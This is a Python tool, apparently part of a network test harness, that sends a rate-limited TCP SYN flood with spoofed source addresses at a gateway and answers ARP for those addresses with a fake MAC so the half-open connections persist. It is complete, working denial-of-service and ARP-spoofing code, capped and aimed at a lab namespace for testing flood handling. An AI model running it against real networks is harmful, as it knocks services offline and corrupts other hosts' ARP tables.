"""A bounded SYN flood from the peer namespace, with spoofed sources.

Sends RATE SYNs a second for SECONDS to GW_IP:PORT, each from a random
address of SRC_NET (by default the upper half of the peer's /24, none of
them the peer's own) and a random port, built with scapy beforehand and
sent through a packet socket on IFACE.

The gateway must resolve those addresses to send its SYN-ACKs, so while
the flood lasts (and LINGER seconds more) this tool answers ARP for them
with a MAC that no interface has: the SYN-ACKs do leave the gateway, and
the peer's kernel drops them as frames for another host. Nobody answers
them, which is what a flood looks like. Had the sources been the peer's
own addresses, its kernel would answer each SYN-ACK with a RST and clear
the half-open connections the flood is meant to leave behind.

Prints "tcp_synflood: ready sent=N" once READY_AFTER SYNs are out (the
caller's event to start its own client), then a final line
  tcp_synflood: sent=N secs=S rate=R arp_replies=K

usage: tcp_synflood.py IFACE GW_MAC GW_IP PORT [--rate R] [--seconds S]
                       [--src-net CIDR] [--ready-after N] [--linger S]
                       [--seed N]
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import threading
import time

from scapy.all import IP, TCP, Ether, conf

conf.verb = 0
ETH_P_ARP = 0x0806
FAKE_MAC = "02:00:00:5f:10:0d"      # locally administered, on no interface


def mac_bytes(mac):
    return bytes(int(x, 16) for x in mac.split(":"))


def build_frames(a, hosts, rng):
    frames = []
    for _ in range(int(a.rate * a.seconds)):
        src = str(rng.choice(hosts))
        frames.append(bytes(
            Ether(src=FAKE_MAC, dst=a.gw_mac)
            / IP(src=src, dst=a.gw_ip, id=rng.randrange(65536))
            / TCP(sport=rng.randrange(1024, 65536), dport=a.port, flags="S",
                  seq=rng.randrange(1 << 32), window=64240,
                  options=[("MSS", 1460)])))
    return frames


class ArpResponder(threading.Thread):
    """Answers "who has X" for every X in the spoofed network, until stopped."""

    def __init__(self, iface, net):
        super().__init__(daemon=True)
        self.net = net
        self.replies = 0
        self.stop_at = None
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                  socket.htons(ETH_P_ARP))
        self.sock.bind((iface, ETH_P_ARP))
        self.sock.settimeout(0.1)
        self.mac = mac_bytes(FAKE_MAC)

    def run(self):
        while self.stop_at is None or time.monotonic() < self.stop_at:
            try:
                f = self.sock.recv(128)
            except socket.timeout:
                continue
            if len(f) < 42:
                continue
            op, sha, spa, tpa = struct.unpack("!6xH6s4s6x4s", f[14:42])
            if op != 1 or ipaddress.IPv4Address(tpa) not in self.net:
                continue
            reply = (sha + self.mac + struct.pack("!H", ETH_P_ARP)
                     + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
                     + self.mac + tpa + sha + spa)
            self.sock.send(reply)
            self.replies += 1


def flood(a, frames):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    t0 = time.monotonic()
    sent = 0
    ready = False
    while sent < len(frames):
        due = min(len(frames), int((time.monotonic() - t0) * a.rate) + 1)
        while sent < due:
            s.send(frames[sent])
            sent += 1
        if not ready and sent >= a.ready_after:
            print(f"tcp_synflood: ready sent={sent}", flush=True)
            ready = True
        time.sleep(0.005)
    return sent, time.monotonic() - t0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("iface")
    ap.add_argument("gw_mac")
    ap.add_argument("gw_ip")
    ap.add_argument("port", type=int)
    ap.add_argument("--rate", type=float, default=2000)
    ap.add_argument("--seconds", type=float, default=3)
    ap.add_argument("--src-net", default="198.18.0.128/25")
    ap.add_argument("--ready-after", type=int, default=500)
    ap.add_argument("--linger", type=float, default=2)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    if a.rate * a.seconds > 200000:
        ap.error("at most 200,000 SYNs")
    net = ipaddress.IPv4Network(a.src_net)
    hosts = list(net.hosts())
    frames = build_frames(a, hosts, random.Random(a.seed))
    arp = ArpResponder(a.iface, net)
    arp.start()
    sent, secs = flood(a, frames)
    arp.stop_at = time.monotonic() + a.linger
    arp.join()
    print(f"tcp_synflood: sent={sent} secs={secs:.2f} rate={sent / secs:.0f} "
          f"arp_replies={arp.replies}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
